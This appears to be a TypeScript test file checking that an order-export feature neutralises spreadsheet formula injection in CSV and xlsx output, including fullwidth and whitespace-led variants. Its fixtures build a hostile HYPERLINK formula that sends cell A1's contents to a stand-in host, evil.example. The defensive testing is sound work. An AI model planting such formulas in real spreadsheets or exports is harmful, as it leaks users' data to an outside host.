// Buyer- and seller-typed text in an export is never run as a formula: every formula-start character
// (= + - @, their fullwidth forms ＝＋－＠ from a Chinese IME, and any of them after leading spaces,
// tabs or line breaks) in every text column gets an apostrophe in CSV, and xlsx cells are plain text.
import fc from 'fast-check';
import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ExportColumn } from '../../shared/contract.ts';
import { openFixture, platformOrder, type Fixture } from '../../testkit/api-fixtures.ts';
import { exportOrders, neutraliseCsvText } from './export.ts';

const STARTERS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const LEADS = ['', ' ', '   ', '\u3000', '\u00A0', '\t', '\r', '\n', ' \t '];
/** Every lead × starter, each followed by a payload a spreadsheet would act on. */
const HOSTILE = LEADS.flatMap((lead) => STARTERS.map((s) => `${lead}${s}HYPERLINK("http://evil.example/?"&A1,"点我")`));
/** Text columns a buyer, a seller or a platform fills. */
const TEXT_COLUMNS = ['buyerNick', 'receiverName', 'receiverAddress', 'items', 'buyerMessage', 'sellerMemo'] as const satisfies readonly ExportColumn[];

let f: Fixture;
let ids: string[];
beforeAll(() => {
  f = openFixture(0);
  ids = f.addOrders(
    HOSTILE.map((text, i) => {
      const base = platformOrder(i + 1);
      return {
        ...base,
        buyerNick: text,
        buyerMessage: text,
        sellerMemo: text,
        receiver: { ...base.receiver, name: text, address: text },
        items: [{ ...base.items[0]!, title: text }],
      };
    }),
  );
});
afterAll(() => f.close());

describe('formula text in exports', () => {
  it('CSV: every hostile start, in every text column, is one apostrophe away from its text', async () => {
    const out = await exportOrders(f.db, { ids, columns: ['platformOrderId', ...TEXT_COLUMNS], format: 'csv' }, 0);
    const rows = parse(Buffer.from(out.base64, 'base64').toString('utf8').replace(/^\uFEFF/, ''), { relaxColumnCount: false }) as string[][];
    expect(rows).toHaveLength(HOSTILE.length + 1);
    rows.slice(1).forEach((row, i) => {
      const text = HOSTILE[i]!;
      TEXT_COLUMNS.forEach((column, c) => {
        const cell = row[c + 1]!;
        const expected = column === 'items' ? `${text} ×2` : text;
        expect(cell, `${column} of ${JSON.stringify(text)}`).toBe(`'${expected}`);
      });
    });
  });

  it('xlsx: no cell is a formula, and each holds the text as typed', async () => {
    const out = await exportOrders(f.db, { ids, columns: ['platformOrderId', ...TEXT_COLUMNS], format: 'xlsx' }, 0);
    const zip = await JSZip.loadAsync(Buffer.from(out.base64, 'base64'));
    const sheetFile = Object.keys(zip.files).find((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))!;
    const xml = await zip.file(sheetFile)!.async('string');
    expect(xml).not.toMatch(/<f[\s>]/);
    // Every text cell is a string cell (inline or shared), never a number, boolean or formula result.
    const types = [...xml.matchAll(/<c [^>]*?(?:t="([^"]*)")?[^>]*>/g)].map((m) => m[1] ?? 'n');
    expect(types.filter((t) => t === 'str' || t === 'b' || t === 'e')).toEqual([]);
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(out.base64, 'base64') as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    HOSTILE.forEach((text, i) => {
      const row = sheet.getRow(i + 2);
      // XML keeps no lone CR (a reader turns it into LF); everything else is as typed.
      expect(row.getCell(6).value, JSON.stringify(text)).toBe(text.replace(/\r\n?/g, '\n'));
      expect(row.getCell(6).type).toBe(ExcelJS.ValueType.String);
    });
  });

  it('neutraliseCsvText: text that could start a formula gains exactly one apostrophe; other text is kept (property)', () => {
    const risky = (s: string) => /^[\s\u00A0\u3000\uFEFF]*[=+\-@＝＋－＠]/u.test(s) || /^[\t\r\n]/.test(s);
    fc.assert(
      fc.property(fc.constantFrom(...LEADS), fc.constantFrom(...STARTERS, 'a', '中', '1', "'", ''), fc.string({ maxLength: 20 }), (lead, start, rest) => {
        const s = `${lead}${start}${rest}`;
        expect(neutraliseCsvText(s)).toBe(risky(s) ? `'${s}` : s);
      }),
      { numRuns: 2000 },
    );
    expect(neutraliseCsvText('普通留言：请尽快发货')).toBe('普通留言：请尽快发货');
    expect(neutraliseCsvText('＝SUM(A1)')).toBe("'＝SUM(A1)");
    expect(neutraliseCsvText(' =1+1')).toBe("' =1+1");
  });
});
